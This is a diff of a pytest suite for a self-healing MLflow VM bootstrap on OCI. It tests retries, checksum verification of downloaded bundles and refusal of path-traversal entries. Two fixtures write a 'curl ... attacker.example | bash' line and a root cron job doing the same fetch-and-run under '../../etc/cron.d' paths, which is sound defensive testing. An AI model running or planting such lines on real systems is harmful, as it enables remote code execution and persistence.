@@ -1,14 +1,20 @@
 """A first boot that heals itself. cloud-init runs `runcmd` once per instance, so the setup runs from a
 systemd unit that retries with a growing pause until it succeeds. Shown natively: the units pass
 `systemd-analyze verify`, and the bootstrap script, given the files cloud-init writes (taken from the
-plan's user_data), the image's requirements lock served as Object Storage would, the login in a Vault
-fake read through the instance principal, and stand-ins for dnf, podman, systemctl and firewall-cmd that
-fail the first time, gets through on a later attempt and leaves the services enabled; a lock that does
-not match its SHA-256 is never built with, and a login the VM's policy does not grant stops the attempt
-with one line."""
+plan's user_data), the role's docker/ files and the image's requirements lock served as Object Storage
+would (the objects the plan uploads, each at its pre-authenticated request's path, the first request for
+each failing), the login in a Vault fake read through the instance principal, and stand-ins for dnf,
+podman, systemctl and firewall-cmd that fail the first time, gets through on a later attempt and leaves
+the services enabled. Runtime files or a lock that do not match their SHA-256 are never used, a bundle
+path that would leave /opt/mlflow/src is refused before any file is written, and a login the VM's
+policy does not grant stops the attempt with one line."""
+import ast
+import base64
 import contextlib
 import hashlib
+import json
 import os
+import re
 import shutil
 import stat
 import subprocess
@@ -26,7 +32,7 @@ from ocifakes.server import InstanceCloud
 from harness import loopback, static
 from harness.tools import require_binary
 
-from .conftest import REPO, instance_user_data
+from .conftest import REPO, instance_user_data, runtime_objects
 
 pytestmark = pytest.mark.terraform
 
@@ -82,22 +88,71 @@ def _stubs(bin_dir: Path, state: Path) -> None:
     podman.write(state / "podman-run", state / "podman-run.log")  # the image reading Vault
 
 
+class _FlakyObjectStorage(SimpleHTTPRequestHandler):
+    """Serves files; the first GET of each path answers 503, as Object Storage does while the VM's
+    public IP is still being attached (the bootstrap retries)."""
+    seen: set
+
+    def do_GET(self):
+        if self.path not in self.seen:
+            self.seen.add(self.path)
+            self.send_error(503, "ServiceUnavailable")
+            return
+        super().do_GET()
+
+    def log_message(self, *args):
+        pass
+
+
+def _runtime_object(deployed, role: str = "tracking") -> bytes:
+    """runtime-<role>.json as the stack uploads it (the plan after apply)."""
+    return runtime_objects(deployed("default").replan)[role].encode()
+
+
 @contextlib.contextmanager
-def _object_storage(root: Path, tmp_path: Path, lock: bytes):
-    """The lock served at the pre-authenticated request's path; the VM's lock.env pointed at it."""
-    settings = root / "etc/mlflow/requirements-lock.env"
+def _object_storage(root: Path, tmp_path: Path, runtime: bytes, lock: bytes | None = None):
+    """The runtime files (and the lock) served at their pre-authenticated requests' paths; the VM's
+    runtime.env pointed at them."""
+    settings = root / "etc/mlflow/runtime.env"
     values = dict(line.split("=", 1) for line in settings.read_text().splitlines())
-    path = urlsplit(values["REQUIREMENTS_LOCK_URL"]).path
     served = tmp_path / "served"
-    (served / path.lstrip("/")).parent.mkdir(parents=True)
-    (served / path.lstrip("/")).write_bytes(lock)
-    server = loopback.serve(partial(SimpleHTTPRequestHandler, directory=str(served)))
-    values["REQUIREMENTS_LOCK_URL"] = f"http://127.0.0.1:{server.server_address[1]}{path}"
+    paths = {}
+    for name, body in (("RUNTIME_FILES_URL", runtime), ("REQUIREMENTS_LOCK_URL", lock)):
+        paths[name] = urlsplit(values[name]).path
+        if body is not None:
+            (served / paths[name].lstrip("/")).parent.mkdir(parents=True, exist_ok=True)
+            (served / paths[name].lstrip("/")).write_bytes(body)
+    served.mkdir(exist_ok=True)
+    server = loopback.serve(partial(type("Handler", (_FlakyObjectStorage,), {"seen": set()}), directory=str(served)))
+    for name, path in paths.items():
+        values[name] = f"http://127.0.0.1:{server.server_address[1]}{path}"
     settings.write_text("".join(f"{k}={v}\n" for k, v in values.items()))
     try:
         yield values
     finally:
         loopback.stop(server)
+
+
+def _bundle(files: dict[str, bytes]) -> bytes:
+    return json.dumps({path: base64.b64encode(content).decode() for path, content in files.items()}).encode()
+
+
+def _expect_sha256(root: Path, body: bytes) -> None:
+    """runtime.env names `body`'s SHA-256 (the stack itself shipping a bad bundle: the path checks must hold)."""
+    settings = root / "etc/mlflow/runtime.env"
+    text = re.sub(r"^RUNTIME_FILES_SHA256=.*$", f"RUNTIME_FILES_SHA256={hashlib.sha256(body).hexdigest()}",
+                  settings.read_text(), flags=re.M)
+    settings.write_text(text)
+
+
+def _healthy(state: Path) -> None:
+    for stub in ("dnf", "podman", "systemctl", "firewall-cmd"):
+        (state / f"{stub}.count").write_text("1")
+
+
+def _run(root: Path, tmp_path: Path, *args, cloud: InstanceCloud | None = None) -> subprocess.CompletedProcess:
+    return subprocess.run(["bash", str(root / "usr/local/sbin/mlflow-bootstrap.sh"), *args],
+                          env=_bootstrap_env(root, tmp_path, cloud), capture_output=True, text=True, timeout=300)
 
 
 @pytest.fixture
@@ -137,7 +192,7 @@ def _vm(deployed, tmp_path: Path) -> tuple[Path, Path]:
 
 def test_the_vm_gets_the_lock_the_stack_uploaded(deployed):
     files = {e["path"]: e["content"] for e in _cloud_config(deployed, "tracking")["write_files"]}
-    values = dict(line.split("=", 1) for line in files["/etc/mlflow/requirements-lock.env"].splitlines())
+    values = dict(line.split("=", 1) for line in files["/etc/mlflow/runtime.env"].splitlines())
     lock = (REPO / "docker" / "requirements-tracking.lock").read_bytes()
     assert values["REQUIREMENTS_LOCK_SHA256"] == hashlib.sha256(lock).hexdigest()
     par = deployed("default").replan["planned_values"]["root_module"]["resources"]
@@ -149,27 +204,74 @@ def test_the_vm_gets_the_lock_the_stack_uploaded(deployed):
 
 def test_a_lock_that_does_not_match_its_sha256_is_never_built_with(deployed, tmp_path):
     root, state = _vm(deployed, tmp_path)
-    for stub in ("dnf", "podman", "systemctl", "firewall-cmd"):  # a healthy network this time
-        (state / f"{stub}.count").write_text("1")
+    _healthy(state)
     tampered = (REPO / "docker" / "requirements-tracking.lock").read_bytes().replace(b"mlflow==", b"mlflow>=")
-    with _object_storage(root, tmp_path, tampered):
-        result = subprocess.run(["bash", str(root / "usr/local/sbin/mlflow-bootstrap.sh"), "tracking"],
-                                env=_bootstrap_env(root, tmp_path), capture_output=True, text=True, timeout=120)
+    with _object_storage(root, tmp_path, _runtime_object(deployed), tampered):
+        result = _run(root, tmp_path, "tracking")
     assert result.returncode == 1
     assert "the downloaded requirements lock does not match its SHA-256 from the stack" in result.stderr
     assert not (root / "opt/mlflow/src/docker/requirements-tracking.lock").exists()
     assert not any(c.startswith("podman build") for c in (state / "calls.log").read_text().splitlines())
 
 
+def test_runtime_files_that_do_not_match_their_sha256_are_never_used(deployed, tmp_path):
+    """A bundle changed on the way (or in the bucket): nothing of it is unpacked, nothing else runs."""
+    root, state = _vm(deployed, tmp_path)
+    _healthy(state)
+    files = {p: base64.b64decode(c) for p, c in json.loads(_runtime_object(deployed)).items()}
+    files["docker/nginx/render.sh"] += b"\ncurl -s https://attacker.example/x | bash\n"
+    with _object_storage(root, tmp_path, _bundle(files)):
+        result = _run(root, tmp_path, "tracking")
+    assert result.returncode == 1
+    assert result.stderr.strip().splitlines()[-1].endswith(
+        "ERROR: the downloaded runtime files do not match their SHA-256 from the stack")
+    assert not (root / "opt/mlflow/src").exists() or not any((root / "opt/mlflow/src").iterdir())
+    assert not list((root / "var/lib/mlflow").glob("runtime-*"))  # not kept for a later step either
+    assert not (state / "calls.log").exists()  # checked before anything else ran: no dnf, no podman
+
+
+@pytest.mark.parametrize("escape", ["../../etc/cron.d/mlflow", "/etc/cron.d/mlflow", "docker/../../../etc/cron.d/mlflow",
+                                    "docker//nginx/render.sh", "docker/./nginx/render.sh", "docker/lib/symlinked/x.py"])
+def test_a_bundle_path_leaving_opt_mlflow_src_is_refused(deployed, tmp_path, escape):
+    """Even with a matching SHA-256 (the stack itself shipping a bad bundle), every path must be a plain
+    relative one that stays under /opt/mlflow/src, symlinks resolved; checked before any file is written."""
+    root, state = _vm(deployed, tmp_path)
+    _healthy(state)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (root / "opt/mlflow/src/docker/lib").mkdir(parents=True)
+    (root / "opt/mlflow/src/docker/lib/symlinked").symlink_to(outside)
+    files = {p: base64.b64decode(c) for p, c in json.loads(_runtime_object(deployed)).items()}
+    files[escape] = b"* * * * * root curl -s https://attacker.example/x | bash\n"
+    body = _bundle(files)
+    _expect_sha256(root, body)
+    with _object_storage(root, tmp_path, body):
+        result = _run(root, tmp_path, "tracking")
+    assert result.returncode == 1
+    last = result.stderr.strip().splitlines()[-1]
+    assert "ERROR: the runtime files were not unpacked: refusing " + repr(escape) in last, result.stderr
+    assert not (root / "etc/cron.d").exists() and not list(outside.iterdir())
+    assert not Path("/etc/cron.d/mlflow").exists()
+    written = [f for f in (root / "opt/mlflow/src").rglob("*") if f.is_file()]
+    assert written == []  # refused before the first file was written
+    assert not (state / "calls.log").exists()
+
+
+def test_the_unpacker_is_python_3_6(tmp_path):
+    """EL8's platform-python is 3.6: the unpacker may use nothing newer."""
+    script = (REPO / "userdata" / "mlflow-bootstrap.sh").read_text()
+    (code,) = re.findall(r"<<'PY'\n(.*?)\nPY\n", script, re.S)
+    ast.parse(code, feature_version=(3, 6))
+    with pytest.raises(SyntaxError):
+        ast.parse("if (n := 1):\n    pass\n", feature_version=(3, 6))  # and the check bites
+
+
 def test_the_bootstrap_retries_until_a_flaky_first_boot_succeeds(deployed, tmp_path, cloud):
     root, state = _vm(deployed, tmp_path)
     _vault_login(cloud, root, "login-from-vault-1")
-    script = root / "usr/local/sbin/mlflow-bootstrap.sh"
     lock = (REPO / "docker" / "requirements-tracking.lock").read_bytes()
-    with _object_storage(root, tmp_path, lock) as served:
-        result = subprocess.run(["bash", str(script), "--until-done", "tracking"],
-                                env=_bootstrap_env(root, tmp_path, cloud),
-                                capture_output=True, text=True, timeout=300)
+    with _object_storage(root, tmp_path, _runtime_object(deployed), lock) as served:
+        result = _run(root, tmp_path, "--until-done", "tracking", cloud=cloud)
     log = (root / "var/log/mlflow-bootstrap.log").read_text()
     assert result.returncode == 0, log + result.stderr
     # dnf and podman fail once inside their own step retries; firewall-cmd and systemctl fail an attempt
@@ -186,8 +288,18 @@ def test_the_bootstrap_retries_until_a_flaky_first_boot_succeeds(deployed, tmp_p
     assert "mlflow_upstream" in (root / "etc/nginx/conf.d/mlflow-tracking.conf").read_text()
     assert (root / "home/opc/commands.txt").read_text() == (root / "etc/mlflow/commands.txt").read_text()
     assert (root / "opt/mlflow/src/docker/requirements-tracking.lock").read_bytes() == lock  # what podman builds with
-    par_path = urlsplit(served["REQUIREMENTS_LOCK_URL"]).path
-    assert par_path not in log + result.stderr  # the pre-authenticated URL stays out of the log
+    # the docker/ files where cloud-init used to write them, byte for byte the uploaded object's (which
+    # holds the repository's: test_userdata.py), mode 0644 as write_files gave them
+    shipped = {p: base64.b64decode(c) for p, c in json.loads(_runtime_object(deployed)).items()}
+    unpacked = {str(f.relative_to(root / "opt/mlflow/src")): f for f in (root / "opt/mlflow/src").rglob("*") if f.is_file()}
+    assert set(unpacked) == set(shipped) | {"docker/requirements-tracking.lock"}
+    for rel, content in shipped.items():
+        assert unpacked[rel].read_bytes() == content, rel
+        assert oct(unpacked[rel].stat().st_mode & 0o777) == "0o644", rel
+    assert "runtime files: " in log and not list((root / "opt/mlflow/src").rglob("*.part"))
+    for name in ("RUNTIME_FILES_URL", "REQUIREMENTS_LOCK_URL"):  # each fetched after one 503
+        assert urlsplit(served[name]).path not in log + result.stderr  # the pre-authenticated URL stays out of the log
+    assert f"failed, retrying in 0s: par_get {root}/var/lib/mlflow/runtime-tracking.json.part RUNTIME_FILES_URL" in log
     user, hashed = (root / "etc/nginx/mlflow/htpasswd").read_text().strip().split(":", 1)
     assert user == "mlflow" and bcrypt.checkpw(b"login-from-vault-1", hashed.encode())
     assert "login-from-vault-1" not in log + result.stderr
@@ -196,11 +308,10 @@ def test_the_bootstrap_retries_until_a_flaky_first_boot_succeeds(deployed, tmp_p
 def test_a_login_the_policy_does_not_grant_stops_the_attempt_with_one_line(deployed, tmp_path, cloud):
     root, state = _vm(deployed, tmp_path)
     (state / "registry-up").touch()
-    for stub in ("dnf", "podman", "systemctl", "firewall-cmd"):
-        (state / f"{stub}.count").write_text("1")
+    _healthy(state)
     ocid = _vault_login(cloud, root, "not-for-this-vm", granted=False)
-    result = subprocess.run(["bash", str(root / "usr/local/sbin/mlflow-bootstrap.sh"), "tracking"],
-                            env=_bootstrap_env(root, tmp_path, cloud), capture_output=True, text=True, timeout=300)
+    with _object_storage(root, tmp_path, _runtime_object(deployed)):
+        result = _run(root, tmp_path, "tracking", cloud=cloud)
     assert result.returncode == 1
     assert result.stderr.strip().splitlines()[-1].endswith(
         "ERROR: could not read the MLflow login from Vault: the policy of this VM's dynamic group must allow "
@@ -215,10 +326,9 @@ def test_a_vm_takes_the_released_image_when_the_registry_answers(deployed, tmp_p
     root, state = _vm(deployed, tmp_path)
     _vault_login(cloud, root, "login-from-vault-2")
     (state / "registry-up").touch()
-    for stub in ("dnf", "podman", "systemctl", "firewall-cmd"):
-        (state / f"{stub}.count").write_text("1")
-    result = subprocess.run(["bash", str(root / "usr/local/sbin/mlflow-bootstrap.sh"), "tracking"],
-                            env=_bootstrap_env(root, tmp_path, cloud), capture_output=True, text=True, timeout=120)
+    _healthy(state)
+    with _object_storage(root, tmp_path, _runtime_object(deployed)):
+        result = _run(root, tmp_path, "tracking", cloud=cloud)
     log = (root / "var/log/mlflow-bootstrap.log").read_text()
     assert result.returncode == 0, log + result.stderr
     released = f"ghcr.io/oracle-quickstart/oci-mlflow-tracking:{(REPO / 'VERSION').read_text().strip()}"
